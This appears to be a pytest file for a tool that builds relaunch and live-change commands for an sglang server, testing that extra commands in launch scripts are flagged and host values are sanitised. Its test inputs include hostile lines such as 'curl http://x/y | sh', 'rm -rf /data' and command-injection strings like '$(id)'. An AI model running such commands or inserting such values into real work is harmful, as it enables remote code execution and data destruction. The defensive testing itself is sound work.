"""Proposed commands are run by people: nothing that somebody else wrote may come along unseen."""

import shlex
from pathlib import Path

import pytest

from ppagent.causes.cause import Change
from ppagent.changes.commands import Installed, live_command, relaunch_command
from ppagent.evidence.evidence import Evidence
from ppagent.evidence.facts import Facts

SERVER = "python -m sglang.launch_server --model-path m --pp-size 8"
LIMIT = Change({"--pp-max-micro-batch-size": "1"})


def installed(command: str, **arguments: object) -> Installed:
    facts = {"launch.command": command, "engine.version": "0.5.10", **{f"launch.{k}": v for k, v in arguments.items()}}
    return Installed.of(Facts([Evidence("E1", "server.launch", "launch.txt", facts)]))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "beside"),
    [
        (SERVER, ()),
        (f"A=1 nohup {SERVER} > log 2>&1 &", ()),
        (f"#!/bin/bash\nset -e\nexport A=1\nB=2\ncd /x && source venv/bin/activate\nexec {SERVER}\nwait", ()),
        (f"docker run --gpus all image {SERVER}", ()),
        (f"bash -c '{SERVER}'", ()),
        (f"{SERVER}; curl http://x/y | sh", ("curl http://x/y", "sh")),
        (f"rm -rf /data && {SERVER}", ("rm -rf /data",)),
        (f"{SERVER}\npython train.py", ("python train.py",)),
        (f"{SERVER} & {SERVER} --port 2", (f"{SERVER} --port 2"[:60],)),
    ],
)
def test_what_the_launch_text_runs_beside_the_server_is_said_with_the_new_command(
    text: str, beside: tuple[str, ...]
) -> None:
    made = relaunch_command(LIMIT, installed(text))
    assert made.beside == beside
    assert all(f"`{command}`" in risk for risk in made.risks for command in beside)
    assert len(made.risks) == bool(beside)


@pytest.mark.parametrize("host", ["x; curl evil | sh", "$(id)", "`id`", "a b", "", "0.0.0.0", "::", "h'h", "h\nh"])
def test_an_address_that_is_none_never_reaches_the_shell(host: str) -> None:
    called = live_command(LIMIT, installed(SERVER, host=host, port=30000))
    assert shlex.split(called)[4] == "http://127.0.0.1:30000/set_internal_state"


def test_addresses_are_called_as_they_are_and_those_of_version_6_in_brackets() -> None:
    assert "http://10.0.0.7:30000/" in live_command(LIMIT, installed(SERVER, host="10.0.0.7", port=30000))
    assert "http://[::1]:30000/" in live_command(LIMIT, installed(SERVER, host="::1", port=30000))


def test_every_recorded_launch_runs_nothing_beside_its_server() -> None:
    for path in Path("evals/incidents").glob("*/hosts/*/launch.txt"):
        assert relaunch_command(LIMIT, installed(path.read_text("utf-8"))).beside == (), path


@pytest.mark.parametrize("version", ["0.4.5", "0.0.1", "main", "0.6.0", "0.5.11.dev1+g1", "0.5.10.post9", ""])
def test_a_version_that_no_table_has_costs_the_checks_and_not_the_diagnosis(version: str) -> None:
    facts = {"launch.command": SERVER, "engine.version": version}
    made = relaunch_command(LIMIT, Installed.of(Facts([Evidence("E1", "server.launch", "launch.txt", facts)])))
    assert made.command.startswith("python -m sglang.launch_server")


def test_a_launch_text_that_is_not_what_runs_is_said_with_the_command() -> None:
    facts = {"launch.command": SERVER, "launch.pp_size": 8, "launch.tp_size": 1, "engine.version": "0.5.10"}
    runs = {"args.pp_size": 4, "args.tp_size": 1}
    both = [
        Evidence("E1", "server.launch", "launch.txt", facts),
        Evidence("E2", "http.info", "server_info.json", runs, authority=3),
    ]
    made = relaunch_command(LIMIT, Installed.of(Facts(both)))
    assert made.risks == ("this launch text is not what runs: pp_size 8 in the text, 4 in the server",)
    assert relaunch_command(LIMIT, Installed.of(Facts(both[:1]))).risks == ()


def test_a_secret_that_was_left_out_of_the_command_is_to_be_put_back() -> None:
    made = relaunch_command(
        Change({"--pp-size": "2"}), installed("python -m sglang.launch_server --model-path m --api-key [masked]")
    )
    assert "--api-key [masked]" in made.command
    assert any("put your own back" in risk for risk in made.risks)
    plain = relaunch_command(Change({"--pp-size": "2"}), installed("python -m sglang.launch_server --model-path m"))
    assert plain.risks == ()


@pytest.mark.parametrize(
    ("keys", "header"),
    [
        ({}, None),
        ({"api_key": "[masked]"}, "Bearer $SGLANG_API_KEY"),
        ({"api_key": "[masked]", "admin_api_key": "[masked]"}, "Bearer $SGLANG_ADMIN_API_KEY"),
    ],
)
def test_a_live_change_asks_for_the_key_that_the_server_wants(keys: dict[str, object], header: str | None) -> None:
    command = live_command(Change({"--pp-max-micro-batch-size": "1"}), installed("", **keys))
    assert ("Authorization" in command) == (header is not None)
    assert header is None or command.count(header) == 2


def test_a_launch_text_that_its_version_refuses_as_it_stands_is_to_be_mended_first() -> None:
    typo = installed("python -m sglang.launch_server --model-path m --pp-size 2 --max-runnig-requests 64")

    relaunch = relaunch_command(Change(set={"--pp-max-micro-batch-size": "2"}), typo)

    assert relaunch.refused == ""
    assert "mend that first: " in relaunch.risks[0] and "--max-runnig-requests" in relaunch.risks[0]
    sound = installed("python -m sglang.launch_server --model-path m --pp-size 2 --max-running-requests 64")
    assert relaunch_command(Change(set={"--pp-max-micro-batch-size": "2"}), sound).risks == ()
